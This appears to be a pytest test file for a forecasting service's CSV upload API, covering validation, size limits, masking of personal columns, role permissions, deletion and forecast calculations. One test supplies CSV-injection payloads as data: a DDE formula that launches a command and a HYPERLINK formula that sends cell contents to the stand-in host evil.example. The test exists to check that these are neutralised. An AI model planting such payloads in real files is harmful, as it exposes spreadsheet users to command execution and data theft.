"""Forecast data: CSV uploads and the forecasts made from them (docs/api.md
"Forecast data"): shapes, limits, CSV validation, round trip, CSV injection,
masking of personal columns, search by data subject, role gates, deletion,
forecast numbers, audit entries and workspace isolation.  Database state is
checked with SQL on the org's tenant database."""

import json
import re
import uuid

import pytest

from apxtest import assert_problem, config_dict, describe, media_type
from authhelp import bearer
from datahelp import (content, content_rows, data_org, forecast, forecast_raw, forecasts_url,
                      list_uploads, parse_csv, personal_email, series_csv, tenant_json,
                      tenant_scalar, to_csv, upload, upload_raw, uploads_url)
from orghelp import (by_request, cookies_off, cookies_restore, create_api_key, create_workspace,
                     org_audit, parse_time)

UPLOAD_KEYS = {"id", "workspace_id", "name", "filename", "size_bytes", "row_count", "columns",
               "personal_columns", "uploaded_by", "created_at"}
FORECAST_KEYS = {"id", "workspace_id", "upload_id", "name", "parameters", "created_by",
                 "created_at"}


@pytest.fixture(scope="module", autouse=True)
def _no_cookies(http):
    old = cookies_off(http.session)
    yield
    cookies_restore(http.session, old)


class Team:
    """A growth org with a member of each role and API keys (viewer, analyst)."""


@pytest.fixture(scope="module")
def team(http):
    t = Team()
    t.d = data_org(http, plan="growth")
    t.slug, t.ws, t.h = t.d.slug, t.d.ws, t.d.h
    t.owner = t.d.owner
    t.admin = t.d.add(http, "admin")
    t.analyst = t.d.add(http, "analyst")
    t.viewer = t.d.add(http, "viewer")
    t.viewer_key_obj, vk = create_api_key(http, t.owner["token"], t.slug, role="viewer")
    t.analyst_key_obj, ak = create_api_key(http, t.owner["token"], t.slug, role="analyst")
    t.viewer_key, t.analyst_key = bearer(vk), bearer(ak)
    return t


def upload_count(stack, d, ws=None):
    where = "" if ws is None else " WHERE workspace_id = %d" % int(ws)
    return int(tenant_scalar(stack, d.tenant, "SELECT count(*) FROM uploads" + where))


def line_of(detail):
    m = re.search(r"\bline (\d+)", detail, re.I)
    return int(m.group(1)) if m else None


# ==================================================================== create

def test_create_shape_and_stored_rows(http, stack, team):
    d = team.d
    mail1, mail2 = personal_email("c"), personal_email("c")
    rows = [["day", "value", "email", "note"],
            ["2024-01-01", "10", mail1, "first"],
            ["2024-01-02", "11.5", mail2, ""],
            ["2024-01-03", "", "", "third"]]
    body = to_csv(rows).encode()
    r = upload_raw(http, d.h, d.slug, d.ws, body, name="Sales Q1", filename="sales q1.csv",
                   personal=["email"])
    assert r.status_code == 201, describe(r)
    assert media_type(r) == "application/json", describe(r)
    up = r.json()["upload"]
    assert UPLOAD_KEYS <= set(up), up
    assert isinstance(up["id"], int) and up["id"] >= 1, up
    assert up["workspace_id"] == d.ws, up
    assert (up["name"], up["filename"]) == ("Sales Q1", "sales q1.csv"), up
    assert up["size_bytes"] == len(body), up
    assert up["row_count"] == 3, up
    assert up["columns"] == ["day", "value", "email", "note"], up
    assert up["personal_columns"] == ["email"], up
    assert up["uploaded_by"] == {"type": "user", "id": d.owner["id"]}, up
    parse_time(up["created_at"])
    # GET answers the same object
    g = http.get(uploads_url(d.slug, d.ws, up["id"]), headers=d.h)
    assert g.status_code == 200, describe(g)
    assert g.json()["upload"] == up, (g.json(), up)
    # in the tenant database: personal values apart from the rows, rows in order
    db = tenant_json(stack, d.tenant, "SELECT workspace_id, name, filename, size_bytes, row_count,"
                     " columns, personal_columns FROM uploads WHERE id = %d" % up["id"])
    assert db == [{"workspace_id": d.ws, "name": "Sales Q1", "filename": "sales q1.csv",
                   "size_bytes": len(body), "row_count": 3,
                   "columns": ["day", "value", "email", "note"],
                   "personal_columns": ["email"]}], db
    cells = tenant_json(stack, d.tenant, "SELECT row_no, cells FROM upload_rows WHERE upload_id"
                        " = %d ORDER BY row_no" % up["id"])
    assert [c["row_no"] for c in cells] == [1, 2, 3], cells
    for c in cells:
        assert mail1 not in json.dumps(c) and mail2 not in json.dumps(c), \
            "a personal value is stored in upload_rows: %r" % c
    pers = tenant_json(stack, d.tenant, "SELECT row_no, column_name, value FROM upload_personal"
                       " WHERE upload_id = %d ORDER BY row_no" % up["id"])
    assert pers == [{"row_no": 1, "column_name": "email", "value": mail1},
                    {"row_no": 2, "column_name": "email", "value": mail2}], pers


def test_create_without_filename_and_personal_data(http, team):
    d = team.d
    up = upload(http, d.h, d.slug, d.ws, "a,b\n1,2\n", name="plain")
    assert up["filename"] is None and up["personal_columns"] == [], up
    assert (up["row_count"], up["columns"]) == (1, ["a", "b"]), up


def test_create_by_api_key_is_attributed_to_the_key(http, team):
    d = team.d
    up = upload(http, team.analyst_key, d.slug, d.ws, "a\n1\n", name="by key")
    assert up["uploaded_by"]["type"] == "api_key", up
    assert up["uploaded_by"]["id"] == team.analyst_key_obj["id"], up
    assert up["uploaded_by"].get("user_id") == team.owner["id"], up


@pytest.mark.parametrize("params", [{"name": ""}, {"name": "x" * 201}, {"name": "a\nb"},
                                    {"filename": "f" * 256}], ids=["empty", "201", "ctl", "fn256"])
def test_create_bad_name_422(http, stack, team, params):
    d = team.d
    before = upload_count(stack, d)
    p = {"name": "ok"}
    p.update(params)
    r = http.post(uploads_url(d.slug, d.ws), params=p, data=b"a\n1\n",
                  headers=dict(d.h, **{"Content-Type": "text/csv"}))
    assert_problem(r, 422, stack=stack, field=list(params)[0])
    assert upload_count(stack, d) == before


def test_names_count_characters_not_bytes(http, stack, team):
    """The detail says "1 to 200 characters" (and the database counts characters):
    200 two-byte characters are a valid name, 255 of them a valid filename."""
    d = team.d
    name, filename = "\u00e9" * 200, "\u00fc" * 255
    r = upload_raw(http, d.h, d.slug, d.ws, "a\n1\n", name=name, filename=filename)
    assert r.status_code == 201, describe(r)
    assert (r.json()["upload"]["name"], r.json()["upload"]["filename"]) == (name, filename)
    r = upload_raw(http, d.h, d.slug, d.ws, "a\n1\n", name="\u00e9" * 201)
    assert_problem(r, 422, field="name", stack=stack)


def test_create_name_required(http, stack, team):
    d = team.d
    r = http.post(uploads_url(d.slug, d.ws), data=b"a\n1\n",
                  headers=dict(d.h, **{"Content-Type": "text/csv"}))
    assert_problem(r, 422, stack=stack, field="name")


@pytest.mark.parametrize("ctype", ["application/json", "text/plain", "application/octet-stream",
                                   "multipart/form-data; boundary=x", None])
def test_other_content_type_415(http, stack, team, ctype):
    d = team.d
    before = upload_count(stack, d)
    r = upload_raw(http, d.h, d.slug, d.ws, b"a,b\n1,2\n", content_type=ctype)
    assert_problem(r, 415, stack=stack)
    assert upload_count(stack, d) == before


def test_text_csv_with_charset_is_accepted(http, team):
    d = team.d
    r = upload_raw(http, d.h, d.slug, d.ws, b"a\n1\n", content_type="text/csv; charset=utf-8")
    assert r.status_code == 201, describe(r)


# ==================================================================== limits

def _limits(stack):
    conf = config_dict(stack["APX_CONFIG"])
    http_cap = int(conf.get("http.max_body_bytes", "1048576"))
    up_cap = int(conf.get("uploads.max_bytes", "1048576"))
    return min(http_cap, up_cap), up_cap, http_cap


def sized_csv(size):
    """A valid CSV of exactly SIZE bytes with few rows (long fields)."""
    head = b"a,b\n"
    out = bytearray(head)
    while len(out) < size:
        room = size - len(out)
        if room <= 4000 + 3:
            field = max(room - 3, 1)
            out += b"x" * field + b",1\n"
            break
        out += b"y" * 4000 + b",1\n"
    assert len(out) == size, (len(out), size)
    return bytes(out)


def test_upload_at_the_limit_is_accepted(http, stack, team):
    d = team.d
    cap, _, _ = _limits(stack)
    body = sized_csv(cap)
    r = upload_raw(http, d.h, d.slug, d.ws, body, timeout=60)
    assert r.status_code == 201, describe(r)
    assert r.json()["upload"]["size_bytes"] == cap, r.json()


def test_upload_one_byte_over_the_limit_413(http, stack, team):
    """One byte over the effective cap (the smaller of uploads.max_bytes and
    http.max_body_bytes, both 1 MiB in the stack) is 413: `upload-too-large`
    from the upload route, or `body-too-large` when the general body cap
    (checked before any route) is the smaller or equal one (docs/api.md)."""
    d = team.d
    cap, up_cap, http_cap = _limits(stack)
    before = upload_count(stack, d)
    r = upload_raw(http, d.h, d.slug, d.ws, sized_csv(cap + 1), timeout=60)
    assert r.status_code == 413, describe(r)
    assert upload_count(stack, d) == before
    assert_problem(r, 413, slug="body-too-large" if http_cap <= up_cap else "upload-too-large",
                   stack=stack)


def test_upload_far_over_the_web_server_limit_413(http, stack, team):
    d = team.d
    limit = int(stack.get("SERVER_BODY_LIMIT") or 0) or _limits(stack)[2] + 65536
    before = upload_count(stack, d)
    try:
        r = upload_raw(http, d.h, d.slug, d.ws, sized_csv(limit + 4096), timeout=60)
    except Exception as e:  # noqa: BLE001 - the server may close while we send
        pytest.fail("the web server dropped the connection instead of answering 413: %r" % e)
    assert r.status_code == 413, describe(r)
    assert_problem(r, 413, stack=stack, app=False)
    assert upload_count(stack, d) == before


@pytest.mark.standalone
def test_configured_upload_limits(http, stack, standalone, team):
    """uploads.max_bytes and uploads.max_rows below http.max_body_bytes: the
    app (same config and database, driven over FastCGI) applies them."""
    import fcgi_client
    d = team.d
    app = standalone(workers=1, set_keys={"uploads.max_bytes": "2000", "uploads.max_rows": "3"})

    def post(body, name):
        return fcgi_client.request(app.address, "POST", uploads_url(d.slug, d.ws),
                                   query="name=" + name, headers=d.h, body=body,
                                   content_type="text/csv", timeout=30)

    before = upload_count(stack, d)
    r = post(sized_csv(2001), "over")
    assert r.status == 413, r
    assert r.json()["type"].endswith("/upload-too-large"), r.json()
    r = post(b"a\n1\n2\n3\n4\n", "rows")
    assert r.status == 422, r
    assert r.json()["type"].endswith("/invalid-csv"), r.json()
    assert line_of(r.json()["detail"]) == 5, r.json()
    assert upload_count(stack, d) == before
    r = post(b"a\n1\n2\n3\n", "three")
    assert r.status == 201, r
    r = post(sized_csv(2000), "at-limit")
    assert r.status == 201, r


# ==================================================================== CSV validation

CSV_CASES = [
    # id, body, the line the detail must name (None: a file without lines)
    ("ragged-long", b"a,b\n1,2\n3,4,5\n6,7\n", 3),
    ("ragged-short", b"a,b,c\n1,2,3\n4,5\n", 3),
    ("unterminated-quote", b"a,b\n1,2\n\"3,4\n5,6\n", 3),
    ("bad-utf8", b"a,b\n1,2\n3,\xc3\x28\n", 3),
    ("bad-utf8-overlong", b"a,b\n1,2\n4,5\n\xc0\xaf,6\n", 4),
    ("nul-byte", b"a,b\n1,2\n3\x00,4\n", 3),
    ("duplicate-header", b"a,b,a\n1,2,3\n", 1),
    ("empty-file", b"", None),
    ("quote-in-unquoted", b"a,b\n1,x\"y\n", 2),
    ("field-too-long", b"a,b\n1,2\n" + b"z" * 4097 + b",3\n", 3),
]


@pytest.mark.parametrize("case", CSV_CASES, ids=[c[0] for c in CSV_CASES])
def test_invalid_csv_422_names_the_line(http, stack, team, case):
    d = team.d
    _, body, line = case
    before = upload_count(stack, d)
    r = upload_raw(http, d.h, d.slug, d.ws, body)
    b = assert_problem(r, 422, slug="invalid-csv", stack=stack)
    assert line_of(b["detail"]) == line, \
        "detail %r should name line %s%s" % (b["detail"], line, describe(r))
    if line is None:
        assert b["detail"] == "empty file", describe(r)
    assert upload_count(stack, d) == before


def test_too_many_columns_422(http, stack, team):
    d = team.d
    head = ",".join("c%d" % i for i in range(257))
    r = upload_raw(http, d.h, d.slug, d.ws, head + "\n" + ",".join("1" * 257) + "\n")
    assert_problem(r, 422, slug="invalid-csv", stack=stack)
    head = ",".join("c%d" % i for i in range(256))
    r = upload_raw(http, d.h, d.slug, d.ws, head + "\n" + ",".join(["1"] * 256) + "\n")
    assert r.status_code == 201, describe(r)


def test_header_only_file_has_no_rows(http, team):
    d = team.d
    r = upload_raw(http, d.h, d.slug, d.ws, b"a,b\n")
    # a header without rows is a valid (empty) table, or refused as invalid-csv
    assert r.status_code in (201, 422), describe(r)
    if r.status_code == 201:
        assert r.json()["upload"]["row_count"] == 0, r.json()


def test_personal_data_unknown_column_422(http, stack, team):
    d = team.d
    before = upload_count(stack, d)
    r = upload_raw(http, d.h, d.slug, d.ws, "a,email\n1,x@example.test\n",
                   personal=["email", "phone"])
    b = assert_problem(r, 422, field="personal_data", stack=stack)
    assert "phone" in b["detail"], b
    assert upload_count(stack, d) == before


def test_personal_data_at_most_16_columns(http, stack, team):
    d = team.d
    names = ["p%d" % i for i in range(17)]
    body = ",".join(names) + "\n" + ",".join("v" for _ in names) + "\n"
    r = upload_raw(http, d.h, d.slug, d.ws, body, personal=names)
    assert_problem(r, 422, field="personal_data", stack=stack)
    r = upload_raw(http, d.h, d.slug, d.ws, body, personal=names[:16])
    assert r.status_code == 201, describe(r)
    assert r.json()["upload"]["personal_columns"] == names[:16], r.json()


# ==================================================================== list and get

def test_list_newest_first_with_pagination(http, stack, team):
    d = team.d
    ws = create_workspace(http, d.owner["token"], d.slug)["id"]
    made = [upload(http, d.h, d.slug, ws, "a\n%d\n" % i, name="p%d" % i)["id"] for i in range(5)]
    body = list_uploads(http, d.h, d.slug, ws)
    assert [u["id"] for u in body["uploads"]] == made[::-1], body
    assert body["next_cursor"] is None, body
    for u in body["uploads"]:
        assert UPLOAD_KEYS <= set(u) and u["workspace_id"] == ws, u
    seen, pages, params = [], 0, {"limit": 2}
    while True:
        b = list_uploads(http, d.h, d.slug, ws, **params)
        assert len(b["uploads"]) <= 2, b
        seen += [u["id"] for u in b["uploads"]]
        pages += 1
        assert pages <= 5, "next_cursor never ends: %r" % b
        if not b["next_cursor"]:
            break
        params["cursor"] = b["next_cursor"]
    assert seen == made[::-1], seen
    assert pages == 3, pages


def test_list_items_are_the_single_answers(http, team):
    """The lists are written from rows by the app (apx_db_rows_json), the single
    answers built in SQL: each item of a list is exactly its GET answer, for every
    kind of value (a name past ASCII, with quotes, a backslash and an
    emoji, no filename, personal columns, an upload by an API key), and the raw
    body is compact ASCII JSON."""
    d = team.d
    ws = create_workspace(http, d.owner["token"], d.slug)["id"]
    name = 'Zo\u00eb "q" \\ \u20ac \U0001f600 end'
    made = [upload(http, d.h, d.slug, ws, "day,value,email\n2024-01-01,1,a@b.test\n", name=name,
                   filename="s\u00e9 \"x\".csv", personal=["email"]),
            upload(http, team.analyst_key, d.slug, ws, "a\n1\n", name="by key"),
            upload(http, d.h, d.slug, ws, "value\n1\n2\n3\n", name="plain")]
    r = http.get(uploads_url(d.slug, ws), headers=d.h)
    assert r.status_code == 200, describe(r)
    assert r.content.isascii() and b": " not in r.content and b", " not in r.content, r.content
    listed = r.json()
    assert list(listed) == ["uploads", "next_cursor"], listed
    assert listed["uploads"] == made[::-1], listed
    for up in made:
        g = http.get(uploads_url(d.slug, ws, up["id"]), headers=d.h)
        assert g.status_code == 200, describe(g)
        assert g.json()["upload"] == up, g.json()
    fcs = [forecast(http, d.h, d.slug, ws, made[2]["id"], name=n)["forecast"]
           for n in ("f \u00e9\U0001f600", "second")]
    fk = forecast(http, team.analyst_key, d.slug, ws, made[2]["id"], name="by key")["forecast"]
    r = http.get(forecasts_url(d.slug, ws), params={"limit": 2}, headers=d.h)
    assert r.status_code == 200 and r.content.isascii(), describe(r)
    page = r.json()
    assert page["forecasts"] == [fk, fcs[1]], page
    assert page["next_cursor"] == str(fcs[1]["id"]), page
    r = http.get(forecasts_url(d.slug, ws), params={"cursor": page["next_cursor"]}, headers=d.h)
    assert r.json() == {"forecasts": [fcs[0]], "next_cursor": None}, r.json()
    g = http.get(forecasts_url(d.slug, ws, fk["id"]), headers=d.h)
    assert g.json()["forecast"] == fk and fk["created_by"]["type"] == "api_key", g.json()


@pytest.mark.parametrize("params", [{"limit": 0}, {"limit": 201}, {"limit": "x"},
                                    {"cursor": "not-a-cursor"}])
def test_list_bad_paging_422(http, stack, team, params):
    d = team.d
    r = http.get(uploads_url(d.slug, d.ws), params=params, headers=d.h)
    assert_problem(r, 422, stack=stack)


def test_get_unknown_404(http, stack, team):
    d = team.d
    for sub in ("", "/content"):
        r = http.get(uploads_url(d.slug, d.ws, 987654321) + sub, headers=d.h)
        assert_problem(r, 404, slug="upload-not-found", stack=stack)
    r = http.delete(uploads_url(d.slug, d.ws, 987654321), headers=d.h)
    assert_problem(r, 404, slug="upload-not-found", stack=stack)


# ==================================================================== content

def test_content_round_trip(http, stack, team):
    d = team.d
    text = ('name,comment,amount,city\n'
            'plain,"has, comma",1,Z\u00fcrich\n'
            '"quoted ""word""","line one\nline two",2.5,\u6771\u4eac\n'
            'emoji \U0001F600,"crlf\r\ninside",3,\u00c5re\n'
            ',,,\n'
            '" spaced ",x,4,"a,b"\n')
    body = b"\xef\xbb\xbf" + text.encode("utf-8")
    up = upload(http, d.h, d.slug, d.ws, body, name="roundtrip")
    assert up["columns"] == ["name", "comment", "amount", "city"], \
        "the BOM must not be part of the first header name: %r" % up["columns"]
    assert up["row_count"] == 5, up
    r = content(http, d.h, d.slug, d.ws, up["id"])
    assert r.status_code == 200, describe(r)
    assert media_type(r) == "text/csv", describe(r)
    assert "attachment" in r.headers.get("Content-Disposition", ""), describe(r)
    assert "no-store" in r.headers.get("Cache-Control", ""), describe(r)
    got = r.content
    assert not got.startswith(b"\xef\xbb\xbf"), "the download starts with a BOM"
    got_text = got.decode("utf-8")
    assert parse_csv(got_text) == parse_csv(text), (got_text, text)
    assert got_text.replace("\r\n", "\n") == text.replace("\r\n", "\n"), (got_text, text)


def test_content_crlf_input(http, team):
    d = team.d
    rows = [["a", "b"], ["1", "x y"], ["2", "\u00e9"]]
    up = upload(http, d.h, d.slug, d.ws, to_csv(rows, crlf=True))
    assert content_rows(http, d.h, d.slug, d.ws, up["id"]) == rows


def test_content_neutralises_csv_injection(http, team):
    d = team.d
    mail = "=HYPERLINK(\"http://evil.example/\"&A1)"
    rows = [["head", "value", "email"],
            ["=cmd|' /C calc'!A0", "-12.5", mail],
            ["+x", "+3", ""],
            ["@SUM(1)", "-x", ""],
            ["-2+3", "1e5", ""],
            ["=1+2", "-.5", ""],
            ["\tTAB", "plain", ""]]
    up = upload(http, d.h, d.slug, d.ws, to_csv(rows), personal=["email"])
    got = content_rows(http, d.h, d.slug, d.ws, up["id"])
    want = [["head", "value", "email"],
            ["'=cmd|' /C calc'!A0", "-12.5", "'" + mail],
            ["'+x", "+3", ""],
            ["'@SUM(1)", "'-x", ""],
            ["'-2+3", "1e5", ""],
            ["'=1+2", "-.5", ""]]
    assert got[:6] == want, got
    # neutralised on the way out only: stored as uploaded
    assert got[6][1] == "plain", got


# ==================================================================== masking and search

@pytest.fixture(scope="module")
def people(http, team):
    """An upload with personal columns email and name (and one without any)."""
    d = team.d
    p = {"m1": personal_email("m"), "m2": personal_email("m"), "n1": "Zo\u00eb Q%s" %
         uuid.uuid4().hex[:6]}
    rows = [["day", "value", "email", "name"],
            ["d1", "1", p["m1"], p["n1"]],
            ["d2", "2", p["m2"], ""],
            ["d3", "3", "", ""]]
    p["up"] = upload(http, d.h, d.slug, d.ws, to_csv(rows), personal=["email", "name"])
    p["rows"] = rows
    # another upload with m1 only, and one with neither
    p["up2"] = upload(http, d.h, d.slug, d.ws,
                      to_csv([["email", "v"], [p["m1"], "9"]]), personal=["email"])
    p["up3"] = upload(http, d.h, d.slug, d.ws, to_csv([["email", "v"], ["other@x.test", "9"]]),
                      personal=["email"])
    return p


def masked(rows):
    out = [rows[0]]
    for r in rows[1:]:
        out.append([("***" if (i >= 2 and v) else v) for i, v in enumerate(r)])
    return out


@pytest.mark.parametrize("who", ["owner", "admin", "analyst", "analyst_key"])
def test_personal_fields_clear_for_analyst_and_up(http, team, people, who):
    h = team.analyst_key if who == "analyst_key" else (
        team.h if who == "owner" else getattr(team, who)["h"])
    got = content_rows(http, h, team.slug, team.ws, people["up"]["id"])
    assert got == people["rows"], got


@pytest.mark.parametrize("who", ["viewer", "viewer_key"])
def test_personal_fields_masked_for_viewers(http, team, people, who):
    h = team.viewer_key if who == "viewer_key" else team.viewer["h"]
    r = content(http, h, team.slug, team.ws, people["up"]["id"])
    assert r.status_code == 200, describe(r)
    for v in (people["m1"], people["m2"], people["n1"]):
        assert v.encode() not in r.content, "viewer sees %r%s" % (v, describe(r))
    assert parse_csv(r.content.decode()) == masked(people["rows"]), r.text


def test_analyst_key_of_a_viewer_is_masked(http, team, people):
    """A key's effective role is the lower of its cap and its creator's role."""
    d = team.d
    # the analyst creates an analyst key, then is demoted to viewer
    from orghelp import set_role
    u = d.add(http, "admin")
    _, key = create_api_key(http, u["token"], d.slug, role="analyst")
    r = set_role(http, d.owner["token"], d.slug, u["id"], "viewer")
    assert r.status_code in (200, 204), describe(r)
    r = content(http, bearer(key), d.slug, d.ws, people["up"]["id"])
    assert r.status_code == 200, describe(r)
    assert people["m1"].encode() not in r.content, describe(r)


def test_search_by_data_subject(http, team, people):
    for h in (team.analyst["h"], team.h, team.analyst_key):
        b = list_uploads(http, h, team.slug, team.ws, email=people["m1"])
        ids = {u["id"] for u in b["uploads"]}
        assert ids == {people["up"]["id"], people["up2"]["id"]}, b
    b = list_uploads(http, team.h, team.slug, team.ws, email=people["m2"])
    assert [u["id"] for u in b["uploads"]] == [people["up"]["id"]], b
    b = list_uploads(http, team.h, team.slug, team.ws, name=people["n1"])
    assert [u["id"] for u in b["uploads"]] == [people["up"]["id"]], b
    # exact match only
    for near in (people["m1"][:-1], people["m1"].upper(), people["m1"] + " ", "%"):
        b = list_uploads(http, team.h, team.slug, team.ws, email=near)
        assert b["uploads"] == [], (near, b)
    # the value of one column is not found under another
    b = list_uploads(http, team.h, team.slug, team.ws, name=people["m1"])
    assert b["uploads"] == [], b


def test_search_refused_to_viewers(http, stack, team, people):
    for h in (team.viewer["h"], team.viewer_key):
        r = http.get(uploads_url(team.slug, team.ws), params={"email": people["m1"]}, headers=h)
        b = assert_problem(r, 403, slug="forbidden", stack=stack)
        assert people["m1"] not in json.dumps(b), b


def test_search_by_two_columns_422(http, stack, team, people):
    r = http.get(uploads_url(team.slug, team.ws), params={"email": people["m1"],
                                                          "name": people["n1"]}, headers=team.h)
    assert_problem(r, 422, stack=stack)


# ==================================================================== role gates

def test_viewer_cannot_write(http, stack, team, people):
    d = team.d
    before = upload_count(stack, d)
    for h in (team.viewer["h"], team.viewer_key):
        r = upload_raw(http, h, d.slug, d.ws, "a\n1\n")
        assert_problem(r, 403, slug="forbidden", stack=stack)
        r = http.delete(uploads_url(d.slug, d.ws, people["up3"]["id"]), headers=h)
        assert_problem(r, 403, slug="forbidden", stack=stack)
        r = forecast_raw(http, h, d.slug, d.ws, people["up"]["id"], value_column="value")
        assert_problem(r, 403, slug="forbidden", stack=stack)
    assert upload_count(stack, d) == before
    # reading is allowed
    assert http.get(uploads_url(d.slug, d.ws), headers=team.viewer["h"]).status_code == 200
    assert http.get(uploads_url(d.slug, d.ws, people["up"]["id"]),
                    headers=team.viewer["h"]).status_code == 200


def test_analyst_can_write(http, stack, team):
    d = team.d
    up = upload(http, team.analyst["h"], d.slug, d.ws, series_csv([1, 2]))
    assert up["uploaded_by"] == {"type": "user", "id": team.analyst["id"]}, up
    fc = forecast(http, team.analyst["h"], d.slug, d.ws, up["id"])
    r = http.delete(forecasts_url(d.slug, d.ws, fc["forecast"]["id"]), headers=team.analyst["h"])
    assert r.status_code == 204, describe(r)
    r = http.delete(uploads_url(d.slug, d.ws, up["id"]), headers=team.analyst["h"])
    assert r.status_code == 204, describe(r)
    assert tenant_json(stack, d.tenant, "SELECT id FROM uploads WHERE id = %d" % up["id"]) == []


def test_outsider_gets_404(http, stack, team, people):
    from orghelp import new_member
    out = new_member(http)
    r = http.get(uploads_url(team.slug, team.ws, people["up"]["id"], "content"),
                 headers=bearer(out["token"]))
    assert_problem(r, 404, stack=stack)
    assert people["m1"].encode() not in r.content


# ==================================================================== delete

def test_delete_removes_upload_rows_and_forecasts(http, stack, team):
    d = team.d
    mail = personal_email("del")
    up = upload(http, d.h, d.slug, d.ws, series_csv([1, 2, 3], extra=lambda i: mail),
                personal=["email"])
    f1 = forecast(http, d.h, d.slug, d.ws, up["id"])
    f2 = forecast(http, d.h, d.slug, d.ws, up["id"], method="mean")
    keep = upload(http, d.h, d.slug, d.ws, series_csv([5, 6]))
    fk = forecast(http, d.h, d.slug, d.ws, keep["id"])
    r = http.delete(uploads_url(d.slug, d.ws, up["id"]), headers=d.h)
    assert r.status_code == 204, describe(r)
    assert r.content == b"", describe(r)
    for tbl, col in (("uploads", "id"), ("upload_rows", "upload_id"),
                     ("upload_personal", "upload_id"), ("forecasts", "upload_id")):
        left = tenant_json(stack, d.tenant, "SELECT 1 FROM %s WHERE %s = %d" % (tbl, col, up["id"]))
        assert left == [], "%s still has rows of the deleted upload" % tbl
    for f in (f1, f2):
        r = http.get(forecasts_url(d.slug, d.ws, f["forecast"]["id"]), headers=d.h)
        assert_problem(r, 404, slug="forecast-not-found", stack=stack)
    assert_problem(http.get(uploads_url(d.slug, d.ws, up["id"]), headers=d.h), 404,
                   slug="upload-not-found")
    assert_problem(http.delete(uploads_url(d.slug, d.ws, up["id"]), headers=d.h), 404,
                   slug="upload-not-found")
    # the other upload and its forecast stay
    assert http.get(uploads_url(d.slug, d.ws, keep["id"]), headers=d.h).status_code == 200
    assert http.get(forecasts_url(d.slug, d.ws, fk["forecast"]["id"]),
                    headers=d.h).status_code == 200


# ==================================================================== forecasts

SERIES = [3, 5, 4, 8, 10, 7, 12]


def linear_points(y, horizon):
    n = len(y)
    mx = (n - 1) / 2.0
    my = sum(y) / float(n)
    sxx = sum((i - mx) ** 2 for i in range(n))
    sxy = sum((i - mx) * (y[i] - my) for i in range(n))
    slope = sxy / sxx
    return [my + slope * (n + h - mx) for h in range(horizon)]


@pytest.fixture(scope="module")
def series_upload(http, team):
    d = team.d
    mail = personal_email("s")
    return upload(http, d.h, d.slug, d.ws,
                  series_csv([str(v) for v in SERIES], extra=lambda i: mail), personal=["email"])


FC_CASES = [
    ("naive", {"method": "naive", "horizon": 3}, [12.0] * 3),
    ("mean", {"method": "mean", "horizon": 2}, [sum(SERIES) / 7.0] * 2),
    ("moving_average", {"method": "moving_average", "horizon": 4, "window": 3},
     [(10 + 7 + 12) / 3.0] * 4),
    ("moving_average-1", {"method": "moving_average", "horizon": 1, "window": 1}, [12.0]),
    ("moving_average-all", {"method": "moving_average", "horizon": 1, "window": 7},
     [sum(SERIES) / 7.0]),
    ("linear", {"method": "linear", "horizon": 5}, linear_points(SERIES, 5)),
    ("naive-366", {"method": "naive", "horizon": 366}, [12.0] * 366),
]


@pytest.mark.parametrize("case", FC_CASES, ids=[c[0] for c in FC_CASES])
def test_forecast_methods(http, stack, team, series_upload, case):
    d = team.d
    _, params, want = case
    params = dict(params, value_column="value")
    name = "fc " + case[0]
    r = http.post(forecasts_url(d.slug, d.ws), json={"name": name, "upload_id": series_upload["id"],
                                                      "parameters": params}, headers=d.h)
    assert r.status_code == 201, describe(r)
    body = r.json()
    fc, res = body["forecast"], body["result"]
    assert FORECAST_KEYS <= set(fc), fc
    assert (fc["workspace_id"], fc["upload_id"], fc["name"]) == (d.ws, series_upload["id"], name)
    assert fc["parameters"] == params, fc
    assert fc["created_by"]["type"] == "user" and fc["created_by"]["id"] == d.owner["id"], fc
    parse_time(fc["created_at"])
    assert res["method"] == params["method"], res
    assert res["observations"] == len(SERIES), res
    assert len(res["points"]) == len(want), res
    for got, exp in zip(res["points"], want):
        assert got == pytest.approx(exp, rel=1e-9, abs=1e-9), (res["points"], want)
    # GET answers the same; the stored row holds it
    g = http.get(forecasts_url(d.slug, d.ws, fc["id"]), headers=d.h)
    assert g.status_code == 200, describe(g)
    assert g.json()["forecast"] == fc and g.json()["result"] == res, g.json()
    db = tenant_json(stack, d.tenant, "SELECT upload_id, parameters, result FROM forecasts"
                     " WHERE id = %d" % fc["id"])
    assert db and db[0]["upload_id"] == series_upload["id"], db
    assert db[0]["result"]["points"] == res["points"], db


def test_forecast_skips_empty_cells(http, team):
    d = team.d
    up = upload(http, d.h, d.slug, d.ws, series_csv(["2", "", "4", "", "9"]))
    res = forecast(http, d.h, d.slug, d.ws, up["id"], method="mean", horizon=1)["result"]
    assert res["observations"] == 3, res
    assert res["points"] == [pytest.approx(5.0)], res
    res = forecast(http, d.h, d.slug, d.ws, up["id"], method="naive", horizon=1)["result"]
    assert res["points"] == [pytest.approx(9.0)], res


def fc_count(stack, d):
    return int(tenant_scalar(stack, d.tenant, "SELECT count(*) FROM forecasts"))


@pytest.mark.parametrize("case", [
    ("personal", {"value_column": "email"}, "parameters.value_column"),
    ("missing-column", {"value_column": "nope"}, "parameters.value_column"),
    ("horizon-0", {"horizon": 0}, "parameters.horizon"),
    ("horizon-367", {"horizon": 367}, "parameters.horizon"),
    ("horizon-string", {"horizon": "3"}, "parameters.horizon"),
    ("window-on-naive", {"window": 2}, "parameters.window"),
    ("window-on-linear", {"method": "linear", "window": 2}, "parameters.window"),
    ("ma-no-window", {"method": "moving_average"}, "parameters.window"),
    ("ma-window-0", {"method": "moving_average", "window": 0}, "parameters.window"),
    ("ma-window-367", {"method": "moving_average", "window": 367}, "parameters.window"),
    ("unknown-method", {"method": "arima"}, "parameters.method"),
], ids=lambda c: c[0])
def test_forecast_bad_parameters_422(http, stack, team, series_upload, case):
    d = team.d
    _, change, field = case
    params = {"method": "naive", "value_column": "value", "horizon": 3}
    params.update(change)
    before = fc_count(stack, d)
    r = forecast_raw(http, d.h, d.slug, d.ws, series_upload["id"], parameters=params)
    assert_problem(r, 422, field=field, stack=stack)
    assert fc_count(stack, d) == before


def test_forecast_window_longer_than_series_422(http, stack, team, series_upload):
    d = team.d
    r = forecast_raw(http, d.h, d.slug, d.ws, series_upload["id"], method="moving_average",
                     window=8)
    assert_problem(r, 422, stack=stack)


def test_forecast_personal_value_not_in_answer(http, stack, team):
    d = team.d
    mail = personal_email("np")
    up = upload(http, d.h, d.slug, d.ws, series_csv([1, 2], extra=lambda i: mail),
                personal=["email"])
    r = forecast_raw(http, d.h, d.slug, d.ws, up["id"], value_column="email")
    assert_problem(r, 422, field="parameters.value_column", stack=stack)
    assert mail not in r.text


